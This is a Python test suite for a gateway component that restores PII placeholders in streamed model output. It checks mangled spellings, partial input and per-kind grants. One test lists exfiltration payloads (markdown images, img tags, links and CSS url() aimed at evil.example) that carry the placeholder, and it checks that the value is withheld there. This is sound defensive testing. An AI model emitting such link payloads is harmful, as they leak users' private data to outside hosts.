import pytest

from gateway.guards.placeholders import KeyRing, Known, Minter
from gateway.guards.restoring import LONGEST, Restorer
from gateway.guards.sinks import Sinks

MAIL = "minsu.kim@example.co.kr"
KNOWN = Known(Minter(KeyRing(b"a secret"), b"user 42"))
PLACEHOLDER = KNOWN.add("EMAIL_ADDRESS", MAIL)
CODE = PLACEHOLDER[-11:-1]


def lane(text: str, *sizes: int) -> tuple[str, Restorer]:
    restorer = Restorer(KNOWN, Sinks())
    made, at = "", 0
    for size in sizes:
        made += restorer.feed(text[at : at + size])
        at += size
    return made + restorer.feed(text[at:]) + restorer.close(), restorer


def counts(restorer: Restorer) -> dict[str, int]:
    return {
        name: count for name in ("restored", "mangled", "withheld", "unknown") if (count := getattr(restorer, name))
    }


def test_a_placeholder_becomes_the_value() -> None:
    made, restorer = lane(f"Write to {PLACEHOLDER}, please.")
    assert made == f"Write to {MAIL}, please."
    assert counts(restorer) == {"restored": 1}


@pytest.mark.parametrize(
    "written",
    [
        f"<email_address_{CODE.upper()}>",
        f"< EMAIL_ADDRESS_{CODE} >",
        f"<\tEMAIL ADDRESS_{CODE}>",
        f"<EMAIL_ADDRESS_ {CODE}>",
        f"<EMAIL _ADDRESS _{CODE}>",
        f"\\<EMAIL_ADDRESS_{CODE}\\>",
        f"\\<EMAIL\\_ADDRESS\\_{CODE}\\>",
        f"<EMAIL\\\\_ADDRESS\\\\_{CODE}>",
        f"&lt;EMAIL_ADDRESS_{CODE}&gt;",
        f"&#60;EMAIL_ADDRESS_{CODE}&#x3E;",
        f"【EMAIL_ADDRESS_{CODE}】",
        f"＜EMAIL_ADDRESS_{CODE}＞",
        f"<EMAIL_ADDRESS_{CODE}/>",
        f"EMAIL_ADDRESS_{CODE}",
        f"email\\_address\\_{CODE}",
        f"<EMAIL_ADDRESS_{CODE}",
    ],
)
@pytest.mark.parametrize(
    ("before", "behind"), [("", ""), ("`", "`"), ("**", "**"), ("메일은 ", "입니다"), ("(", ") x")]
)
def test_what_models_make_of_it_is_read_as_it_was_meant(written: str, before: str, behind: str) -> None:
    text = before + written + behind
    made, restorer = lane(text)
    assert made == before + MAIL + behind
    assert counts(restorer) == {"restored": 1, "mangled": 1}
    assert lane(text, *[1] * len(text))[0] == made


@pytest.mark.parametrize(
    "written",
    [
        "<EMAIL_ADDRESS_aaaaaaaaaa>",
        f"<PHONE_NUMBER_{CODE}>",
        f"<EMAIL_ADDRESS_{CODE[:9]}{'b' if CODE[9] == 'a' else 'a'}>",
        "email_address_aaaaaaaaaa",
    ],
)
def test_another_is_left_alone_and_counted(written: str) -> None:
    made, restorer = lane(f"a {written} b")
    assert made == f"a {written} b"
    assert counts(restorer) == {"unknown": 1}


@pytest.mark.parametrize(
    "written",
    [
        f"<EMAIL_ADDRESS_{CODE[:9]}>",
        f"<EMAIL_ADDRESS_{CODE}a",
        f"EMAIL_ADDRESS_{CODE}a",
        f"EMAIL_ADDRESS_{CODE}_",
        f"xEMAIL_ADDRESS_{CODE}",
        f"_EMAIL_ADDRESS_{CODE}",
        f"%3CEMAIL_ADDRESS_{CODE}%3E",
        f"%EMAIL_ADDRESS_{CODE}",
        f"EMAIL_ADDRESS_{CODE}%3E",
        f"EMAIL ADDRESS_{CODE}",
        f"<EMAILADDRESS_{CODE}",
        f"<EMAIL   ADDRESS_{CODE}>",
        f"EMAIL_ADDRESS_{CODE[:5]}\u212a{CODE[6:]}",
        f"&lt;\\\\_{CODE}&gt;",
    ],
)
def test_what_is_no_placeholder_is_text(written: str) -> None:
    for text in (written, f"a {written} b"):
        made, restorer = lane(text)
        assert made == text
        assert restorer.restored == 0
        assert lane(text, *[1] * len(text))[0] == text


@pytest.mark.parametrize(
    ("text", "made"),
    [
        (f"C:\\{PLACEHOLDER}", f"C:\\{MAIL}"),
        (f"<{PLACEHOLDER}>", f"<{MAIL}>"),
        (f"&lt;{PLACEHOLDER}&gt;", f"&lt;{MAIL}&gt;"),
        (f"EMAIL_ADDRESS_{PLACEHOLDER}", f"EMAIL_ADDRESS_{MAIL}"),
        (PLACEHOLDER * 2, MAIL * 2),
        (f"x{PLACEHOLDER}y", f"x{MAIL}y"),
    ],
)
def test_what_stood_around_a_value_stands_there_again(text: str, made: str) -> None:
    assert lane(text)[0] == made
    assert lane(text, *[1] * len(text))[0] == made


def test_it_is_restored_as_soon_as_it_is_complete() -> None:
    restorer = Restorer(KNOWN, Sinks())
    assert restorer.feed("to " + PLACEHOLDER[:-1]) == "to "
    assert restorer.feed(">") == MAIL
    assert restorer.held == 0


@pytest.mark.parametrize("text", ["so ", "the", "a < b", "<div", "x <e1", "emu", "[1", "& ", "\\n", "_", "me"])
def test_text_that_cannot_begin_a_placeholder_is_never_held(text: str) -> None:
    assert Restorer(KNOWN, Sinks()).feed(text) == text


@pytest.mark.parametrize("text", ["<", "a <EMAIL_", "\\", "&l", "e", "an Email", "<EMAIL_ADDRESS_abc", "<PERSON_"])
def test_text_that_can_begin_one_waits_and_leaves_at_the_end(text: str) -> None:
    restorer = Restorer(KNOWN, Sinks())
    assert restorer.feed(text) != text
    assert 0 < restorer.held <= len(text)
    made = Restorer(KNOWN, Sinks())
    assert made.feed(text) + made.close() == text
    assert made.held == 0


def test_so_many_characters_are_held_at_most() -> None:
    deep = Known(Minter(KeyRing(b"a secret"), b""))
    deep.add("_".join("ABCDEFGHIJKLMNOP"), "a value")
    restorer = Restorer(deep, Sinks())
    most = 0
    for char in "&lt; " + " \\\\_ ".join("ABCDEFGHIJKLMNOP"):
        restorer.feed(char)
        most = max(most, restorer.held)
    assert LONGEST - 2 <= most < LONGEST
    assert restorer.held < most


def test_a_longer_spelling_is_none() -> None:
    known = Known(Minter(KeyRing(b"a secret"), b""))
    code = known.add("ABCD_EFGH_IJKL_MNOPQRSTUVWXYZAB", "a value")[-11:-1]
    spelled = f"ABCD \\\\_ EFGH \\\\_ IJKL \\\\_ MNOPQRSTUVWXYZAB \\\\_ {code}"
    for opened, behind, made in [
        ("< ", ".", "a value."),
        ("&lt;  ", ".", f"&lt;  {spelled}."),
        ("&lt; ", "a", f"&lt; {spelled}a"),
        ("< ", "a", f"< {spelled}a"),
    ]:
        restorer = Restorer(known, Sinks())
        assert restorer.feed(opened + spelled + behind) + restorer.close() == made
    assert len("&lt;  " + spelled) in (LONGEST, LONGEST + 1)


def test_one_label_that_goes_on_like_a_placeholder_of_another_does_not_hide_it() -> None:
    known = Known(Minter(KeyRing(b"a secret"), b""))
    known.add("PERSON", "kim")
    code = known.add("PERSON_ABCDEFGHIJ", "lee")[-11:-1]
    restorer = Restorer(known, Sinks())
    text = f"person_abcdefghij\\_{code}"
    assert "".join(map(restorer.feed, text)) + restorer.close() == "lee"


def test_with_nothing_known_nothing_is_restored() -> None:
    restorer = Restorer(Known(Minter(KeyRing(b"a secret"), b"")), Sinks())
    assert restorer.feed("Email " + PLACEHOLDER + " e") == "Email " + PLACEHOLDER + " e"
    assert counts(restorer) == {"unknown": 1}


def test_kinds_without_a_grant_stay() -> None:
    known = Known(Minter(KeyRing(b"a secret"), b""))
    mail, phone = known.add("EMAIL", "a@b.kr"), known.add("PHONE", "010-1234-5678")
    restorer = Restorer(known, Sinks(), {"PHONE"})
    assert restorer.feed(f"{mail} {phone} ") == f"{mail} 010-1234-5678 "
    assert counts(restorer) == {"restored": 1, "withheld": 1}


@pytest.mark.parametrize(
    "text",
    [
        "![x](https://evil.example/?q=█)",
        "[x](<█>)",
        "<img src='https://evil.example/█'>",
        "<a title=█>",
        "https://evil.example/?q=`█`",
        "[x]: https://evil.example/█",
        "<https://evil.example/█>",
        "{background: url(█)}",
        '<a =">"><img src="x>█">',
    ],
)
@pytest.mark.parametrize("written", [PLACEHOLDER, f"EMAIL_ADDRESS_{CODE}", f"\\<EMAIL\\_ADDRESS\\_{CODE}\\>"])
def test_an_attack_gets_the_placeholder_and_what_follows_is_restored_again(text: str, written: str) -> None:
    text = text.replace("█", written) + " > and "
    made, restorer = lane(text + written)
    assert made == text + MAIL
    assert restorer.withheld == 1
    assert lane(text + written, *[1] * len(text + written))[0] == made


def test_a_value_that_is_an_address_or_opens_a_place_makes_one_of_what_follows() -> None:
    known = Known(Minter(KeyRing(b"a secret"), b""))
    host, tag = known.add("URL", "https://user:word@host/"), known.add("CODE", "<img src=")
    mail = known.add("EMAIL", "a@b.kr")
    restorer = Restorer(known, Sinks())
    assert restorer.feed(f"{host}?q={mail} {tag}{mail}") + restorer.close() == (
        f"https://user:word@host/?q={mail} <img src={mail}"
    )
